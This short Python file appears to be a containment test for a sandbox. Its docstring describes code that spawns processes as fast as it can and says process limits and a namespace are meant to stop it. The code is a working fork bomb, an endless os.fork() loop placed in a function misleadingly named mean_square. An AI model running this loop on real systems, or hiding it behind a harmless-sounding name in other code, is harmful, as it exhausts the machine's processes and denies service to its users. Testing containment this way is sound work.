"""Starts processes that start processes, as fast as it can, and lets them run.

Must not: starve its neighbours, or leave a process behind.
Slow: yes
Stopped by: the limit on processes, and the process namespace that ends them all at once.
"""

# %% ex1_code
import os


def mean_square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
